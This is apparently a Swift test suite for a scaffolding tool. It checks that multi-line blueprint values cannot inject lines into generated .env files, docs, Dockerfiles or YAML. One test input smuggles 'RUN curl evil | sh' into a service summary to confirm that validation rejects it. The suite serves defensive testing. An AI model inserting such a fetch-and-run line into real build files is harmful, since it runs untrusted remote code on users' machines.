import BlueprintDescription
import Foundation
import Mustache
import ScaffoldCore
import ScaffoldKit
import Testing

/// No blueprint value can add a line to a generated file where a line would mean something:
/// multi-line, CRLF and trailing-newline values stay inside their comment or table cell.
@Suite("Value injection")
struct InjectionTests {
    static func render(_ blueprint: Blueprint) throws -> [String: String] {
        let project = try Resolver().resolve(blueprint)
        let sources = try TemplateLoader.sources(in: TestPaths.repository.appendingPathComponent("Templates"), displayRoot: "Templates")
        let files = try Pipeline().render(project, templates: try TemplateSet(builtIn: sources))
        return Dictionary(uniqueKeysWithValues: files.map { ($0.path, $0.contents) })
    }

    @Test("a description or value with line breaks can't inject a line into .env.example or the docs",
          arguments: ["x\nINJECTED=1", "x\r\nINJECTED=1", "x\rINJECTED=1", "x\u{2028}INJECTED=1", "x\n", "x\n\nINJECTED=1\n"])
    func envExample(_ text: String) throws {
        let files = try Self.render(Blueprint(name: "shop", services: [
            .app("api", path: "api", runtime: .python(server: .uvicorn("app:app")), port: 8000,
                 environment: ["GREETING": .init(stringLiteral: text)],
                 secrets: [.secret("SESSION_KEY", description: text)]),
        ]))
        let env = try #require(files[".env.example"])
        for line in env.components(separatedBy: .newlines) {
            #expect(!line.hasPrefix("INJECTED"), "a value injected a line into .env.example:\n\(env)")
        }
        let reference = try #require(files["docs/deployment/environment-variables.md"])
        for line in reference.components(separatedBy: .newlines) where line.hasPrefix("INJECTED") {
            Issue.record("a value injected a line into the variable reference")
        }
    }

    @Test("a summary that breaks lines is refused: it is written into Dockerfile and YAML comments")
    func summaries() throws {
        #expect(throws: ValidationFailure.self) {
            try Resolver().resolve(Blueprint(name: "shop", services: [
                .app("api", path: "api", runtime: .python(server: .uvicorn("app:app")), port: 8000, summary: "api\nRUN curl evil | sh"),
            ]))
        }
        #expect(throws: ValidationFailure.self) {
            try Resolver().resolve(Blueprint(name: "shop", summary: "shop\r\n# more", services: [.redis()]))
        }
    }
}
